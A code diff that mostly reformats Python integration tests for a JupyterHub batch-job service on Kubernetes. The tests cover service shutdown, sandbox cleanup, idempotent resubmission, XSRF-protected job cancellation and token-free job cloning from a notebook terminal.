@@ -555,10 +758,17 @@ PARENT = "import subprocess, sys; child = subprocess.Popen(sys.argv[1:]); print(
 
 
 async def test_the_service_stops_when_the_hub_that_started_it_dies(env):
-    service = Service(env.service.tmp, env.hub, free_port(), env.service.token, env.service.kubeconfig)
-    parent = subprocess.Popen([sys.executable, "-c", PARENT, *service.argv()], env=service.environment(),
-                              cwd=service.tmp, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
-                              start_new_session=True)
+    service = Service(
+        env.service.tmp, env.hub, free_port(), env.service.token, env.service.kubeconfig
+    )
+    parent = subprocess.Popen(
+        [sys.executable, "-c", PARENT, *service.argv()],
+        env=service.environment(),
+        cwd=service.tmp,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    )
     child = int(await asyncio.to_thread(parent.stdout.readline))
 
     async def gone():
@@ -582,20 +792,37 @@ async def test_the_service_stops_when_the_hub_that_started_it_dies(env):
 async def test_sandboxes_of_interrupted_submissions_are_reused_or_swept(env, core, batch):
     def orphan(key: str) -> dict:
         """What a submission killed between writing its sandbox and creating its Job leaves."""
-        return {"metadata": {
-            "name": job_name("alice", key),
-            "labels": {labels.MANAGED_BY: labels.MANAGED_BY_VALUE, labels.COMPONENT: "batch-job-sandbox",
-                       labels.OWNER: "alice"},
-            "annotations": {labels.OWNER_NAME: "alice", labels.IDEMPOTENCY_KEY: key, labels.REQUEST_DIGEST: "0"},
-        }, "data": {"data.txt": "stale"}}
+        return {
+            "metadata": {
+                "name": job_name("alice", key),
+                "labels": {
+                    labels.MANAGED_BY: labels.MANAGED_BY_VALUE,
+                    labels.COMPONENT: "batch-job-sandbox",
+                    labels.OWNER: "alice",
+                },
+                "annotations": {
+                    labels.OWNER_NAME: "alice",
+                    labels.IDEMPOTENCY_KEY: key,
+                    labels.REQUEST_DIGEST: "0",
+                },
+            },
+            "data": {"data.txt": "stale"},
+        }
 
     await core.create_namespaced_config_map(env.namespace, orphan("k-retry"))
     await core.create_namespaced_config_map(env.namespace, orphan("k-abandoned"))
-    status, job, _ = await env.api("alice", "POST", "api/jobs", job_body(
-        name="retry", idempotency_key="k-retry", files={"data.txt": "fresh"}))
+    status, job, _ = await env.api(
+        "alice",
+        "POST",
+        "api/jobs",
+        job_body(name="retry", idempotency_key="k-retry", files={"data.txt": "fresh"}),
+    )
     assert status == 201, job
     sandbox = await core.read_namespaced_config_map(job["id"], env.namespace)
-    assert sandbox.data == {"data.txt": "fresh"} and sandbox.metadata.owner_references[0].name == job["id"]
+    assert (
+        sandbox.data == {"data.txt": "fresh"}
+        and sandbox.metadata.owner_references[0].name == job["id"]
+    )
 
     async def swept():
         return job_name("alice", "k-abandoned") not in (await our_objects(env, core, batch))[1]
@@ -604,21 +831,35 @@ async def test_sandboxes_of_interrupted_submissions_are_reused_or_swept(env, cor
 
 
 async def test_resubmission_runs_the_same_request_again(env):
-    _, first, _ = await env.api("alice", "POST", "api/jobs", job_body(
-        name="again", command=None, script="#!/bin/sh\necho again\n", files={"in.txt": "x"}))
+    _, first, _ = await env.api(
+        "alice",
+        "POST",
+        "api/jobs",
+        job_body(
+            name="again", command=None, script="#!/bin/sh\necho again\n", files={"in.txt": "x"}
+        ),
+    )
     await wait_until(lambda: state_of(env, "alice", first["id"], "succeeded"), "the first run")
-    status, second, _ = await env.api("alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"})
+    status, second, _ = await env.api(
+        "alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"}
+    )
     assert status == 201 and second["id"] != first["id"] and second["name"] == "again"
-    assert (await env.api("alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"}))[1]["id"] \
-        == second["id"]
+    assert (
+        await env.api(
+            "alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"}
+        )
+    )[1]["id"] == second["id"]
     await wait_until(lambda: state_of(env, "alice", second["id"], "succeeded"), "the second run")
 
 
 # -- the page -----------------------------------------------------------------------------------
 
+
 async def test_the_jobs_page_lists_jobs_and_cancels_them_with_xsrf(env, batch, a30_taken):
     _, job, _ = await env.api("alice", "POST", "api/jobs", job_body(name="pagejob", **A30))
-    await wait_until(lambda: state_of(env, "alice", job["id"], "queued", placed=True), "the job to wait")
+    await wait_until(
+        lambda: state_of(env, "alice", job["id"], "queued", placed=True), "the job to wait"
+    )
     status, page = await asyncio.to_thread(env.hub.page, PREFIX, "alice")
     assert status == 200, page
     assert f'data-job="{job["id"]}"' in page and "pagejob" in page and 'data-state="queued"' in page
@@ -631,14 +872,18 @@ async def test_the_jobs_page_lists_jobs_and_cancels_them_with_xsrf(env, batch, a
 
     def post(data: bytes) -> int:
         try:
-            with browser.open(urllib.request.Request(cancel, data=data, method="POST"), timeout=30) as response:
+            with browser.open(
+                urllib.request.Request(cancel, data=data, method="POST"), timeout=30
+            ) as response:
                 return response.status
         except urllib.error.HTTPError as error:
             return error.code
 
     assert await asyncio.to_thread(post, b"") == 403
     assert await asyncio.to_thread(post, b"_xsrf=forged") == 403
-    assert (await batch.read_namespaced_job(job["id"], env.namespace)).metadata.deletion_timestamp is None
+    assert (
+        await batch.read_namespaced_job(job["id"], env.namespace)
+    ).metadata.deletion_timestamp is None
     assert await asyncio.to_thread(post, f"_xsrf={xsrf}".encode()) == 200
     status, _, _ = await env.api("alice", "GET", f"api/jobs/{job['id']}")
     assert status == 404
@@ -646,12 +891,16 @@ async def test_the_jobs_page_lists_jobs_and_cancels_them_with_xsrf(env, batch, a
 
 # -- the hub runs the service; a notebook terminal clones its notebook ----------------------------
 
+
 async def terminal(hub: Hub, token: str, command: str, until: str) -> str:
     """Type a command in a new JupyterLab terminal of alice's notebook; its output up to `until`."""
     headers = {"Authorization": f"token {token}"}
-    request = urllib.request.Request(f"{hub.url}/user/alice/api/terminals", data=b"{}", method="POST",
-                                     headers=headers)
-    name = json.loads(await asyncio.to_thread(lambda: urllib.request.urlopen(request, timeout=30).read()))["name"]
+    request = urllib.request.Request(
+        f"{hub.url}/user/alice/api/terminals", data=b"{}", method="POST", headers=headers
+    )
+    name = json.loads(
+        await asyncio.to_thread(lambda: urllib.request.urlopen(request, timeout=30).read())
+    )["name"]
     socket_url = f"{hub.url.replace('http', 'ws', 1)}/user/alice/terminals/websocket/{name}"
     connection = await websocket_connect(HTTPRequest(socket_url, headers=headers))
     output = ""
@@ -668,7 +917,9 @@ async def terminal(hub: Hub, token: str, command: str, until: str) -> str:
     return output
 
 
-async def test_clone_from_a_notebook_terminal(devcluster, pod_runner, api_client, kueue, core, tmp_path):
+async def test_clone_from_a_notebook_terminal(
+    devcluster, pod_runner, api_client, kueue, core, tmp_path
+):
     """The done-when of the job service: the hub runs the service as 40-jobs.py registers it (on a
     free port); in a real JupyterLab terminal of a real notebook, `aiinfn jobs clone -- python
     train.py` makes a Kueue job from the notebook pod that is admitted, runs the script from the
@@ -682,10 +933,12 @@ async def test_clone_from_a_notebook_terminal(devcluster, pod_runner, api_client
         f"load_subconfig({str(REPO / 'jupyterhub_config.d' / '40-jobs.py')!r})",
         f"c.JupyterHub.services[-1]['url'] = 'http://127.0.0.1:{free_port()}'",
     ]
-    account = await hubaccount.hub_kubeconfig(api_client, name, kubeconfig,
-                                              tmp_path / "hub.kubeconfig")
-    hub, responder = await asyncio.to_thread(start_hub, tmp_path, account, name,
-                                             {"alice": USERS["alice"]}, SPAWNER, lines)
+    account = await hubaccount.hub_kubeconfig(
+        api_client, name, kubeconfig, tmp_path / "hub.kubeconfig"
+    )
+    hub, responder = await asyncio.to_thread(
+        start_hub, tmp_path, account, name, {"alice": USERS["alice"]}, SPAWNER, lines
+    )
     try:
         token = await user_token(hub, "alice")
         status, body = await asyncio.to_thread(hub.request, "POST", "/users/alice/server", {})
@@ -697,15 +950,28 @@ async def test_clone_from_a_notebook_terminal(devcluster, pod_runner, api_client
 
         await wait_until(ready, "alice's notebook", limit=180)
         script = {"type": "file", "format": "text", "content": "print('bunshin says', 6 * 7)\n"}
-        await asyncio.to_thread(lambda: urllib.request.urlopen(urllib.request.Request(
-            f"{hub.url}/user/alice/api/contents/train.py", data=json.dumps(script).encode(), method="PUT",
-            headers={"Authorization": f"token {token}"}), timeout=30).read())
+        await asyncio.to_thread(
+            lambda: urllib.request.urlopen(
+                urllib.request.Request(
+                    f"{hub.url}/user/alice/api/contents/train.py",
+                    data=json.dumps(script).encode(),
+                    method="PUT",
+                    headers={"Authorization": f"token {token}"},
+                ),
+                timeout=30,
+            ).read()
+        )
 
-        output = await terminal(hub, token, "aiinfn jobs clone -- python train.py", r"job-[0-9a-f]{20}.*\n")
+        output = await terminal(
+            hub, token, "aiinfn jobs clone -- python train.py", r"job-[0-9a-f]{20}.*\n"
+        )
         job_id = re.search(r"job-[0-9a-f]{20}", output).group(0)
         environment = Env(hub, None, name, {"alice": token})
-        done = await wait_until(lambda: state_of(environment, "alice", job_id, "succeeded", "failed"),
-                                "the clone to run", limit=120)
+        done = await wait_until(
+            lambda: state_of(environment, "alice", job_id, "succeeded", "failed"),
+            "the clone to run",
+            limit=120,
+        )
         assert done["state"] == "succeeded", done
         assert (done["kind"], done["admission"]["cluster_queue"]) == ("bunshin", "project-cms-2dml")
         _, logs, _ = await environment.api("alice", "GET", f"api/jobs/{job_id}/logs")
@@ -716,11 +982,22 @@ async def test_clone_from_a_notebook_terminal(devcluster, pod_runner, api_client
         notebook = pods.items[0].spec
         spec = job.spec.template.spec
         assert spec.containers[0].image == notebook.containers[0].image
-        assert (spec.containers[0].command, spec.containers[0].working_dir) == (["python", "train.py"], "/home/jovyan")
-        assert not [e for e in spec.containers[0].env if "TOKEN" in e.name or e.name.startswith("JUPYTERHUB_")]
-        server_token = next(e.value for e in notebook.containers[0].env if e.name == "JUPYTERHUB_API_TOKEN")
+        assert (spec.containers[0].command, spec.containers[0].working_dir) == (
+            ["python", "train.py"],
+            "/home/jovyan",
+        )
+        assert not [
+            e
+            for e in spec.containers[0].env
+            if "TOKEN" in e.name or e.name.startswith("JUPYTERHUB_")
+        ]
+        server_token = next(
+            e.value for e in notebook.containers[0].env if e.name == "JUPYTERHUB_API_TOKEN"
+        )
         assert server_token not in json.dumps(api_client.sanitize_for_serialization(job))
-        assert {v.name for v in spec.volumes} == {v.name for v in notebook.volumes} - {"access-token"}
+        assert {v.name for v in spec.volumes} == {v.name for v in notebook.volumes} - {
+            "access-token"
+        }
         assert spec.security_context.run_as_user == notebook.security_context.run_as_user
 
         listed = await terminal(hub, token, "aiinfn jobs list", r"succeeded")
